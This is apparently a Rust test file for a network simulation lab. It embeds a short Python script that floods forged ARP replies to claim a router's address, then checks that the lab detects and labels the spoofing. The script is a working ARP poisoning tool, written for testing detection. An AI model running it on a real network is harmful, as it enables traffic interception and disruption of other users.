//! Attacks in the results: the host whose address was claimed, and the labels.

use crate::support::Lab;

/// Program on host `bad` that claims the address of its network's router by ARP.
const LIE: &str = r#"
import socket, subprocess, time
gateway = subprocess.check_output(["ip", "-4", "route", "show", "default"], text=True).split()[2]
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind(("eth0", 0))
mac = wire.getsockname()[4]
message = b"\0\1\x08\0\6\4\0\2" + mac + socket.inet_aton(gateway) + b"\xff" * 6 + bytes([10, 0, 1, 2])
while True:
    wire.send(b"\xff" * 6 + mac + b"\x08\x06" + message)
    time.sleep(0.1)
"#;

const SCENARIO: &str = r#"
schema = "timeloom/1"
name = "router"
time = { duration = "1 s" }
[network]
routers = ["r1"]
[system]
switches = ["s1"]
links = [
    { between = ["a", "s1"], name = "tap" },
    { between = ["bad", "s1"] },
    { between = ["s1", "r1"] },
    { between = ["r1", "b"] },
]
[system.hosts.a]
address = "10.0.1.2/24"
[system.hosts.bad]
address = "10.0.1.3/24"
[system.hosts.b]
address = "10.0.2.2/24"
[[capture]]
link = "tap"
[[attack]]
id = "lie"
at = "100 ms"
host = "bad"
target = ["r1", "a"]
programs = [{ name = "lie", run = ["python3", "lie.py"] }]
"#;

#[test]
fn the_address_of_a_router_is_watched_and_labels_name_the_target() {
    let lab = Lab::with_text(SCENARIO);
    std::fs::write(lab.path().join("lie.py"), LIE).expect("there is room");
    let run = lab.run(&[]);
    assert!([0, 4].contains(&run.code), "{}", run.output());
    lab.assert_nothing_left();
    let directory = run.directory();
    let mut spoofed = Vec::new();
    directory
        .for_each(|row: timeloom_results::EventRow| {
            spoofed.extend((&*row.kind == "spoofed").then_some(row));
            Ok(())
        })
        .expect("the events can be read");
    let first = spoofed
        .first()
        .unwrap_or_else(|| panic!("{}", run.output()));
    assert_eq!((&*first.host, &*first.source), ("bad", "tap"));
    assert!(first.text.contains(", which is r1's"), "{}", first.text);
    assert!(run.path().join("net/tap.pcapng").is_file());
    let labels = directory.labels().expect("the labels can be read");
    assert_eq!((&*labels[0].attack, &*labels[0].target), ("lie", "r1 a"));
    // This attack has no technique, and the report must not show one.
    let report = std::fs::read_to_string(run.path().join("report.html"));
    let report = report.expect("there is a report");
    assert!(report.contains("lie begins, against r1 a"), "no moment");
    assert!(!report.contains("()"), "empty parentheses");
}

#[test]
fn a_target_that_is_not_there_is_a_mistake() {
    let lab = Lab::with_text(&SCENARIO.replace("[\"r1\", \"a\"]", "[\"r2\"]"));
    let run = lab.run(&[]);
    assert_eq!(run.code, 2, "{}", run.output());
    let said = "there is no `r2` to attack";
    assert!(run.stderr.contains(said), "{}", run.output());
    assert!(
        run.stderr.contains("did you mean `r1`?"),
        "{}",
        run.output()
    );
}
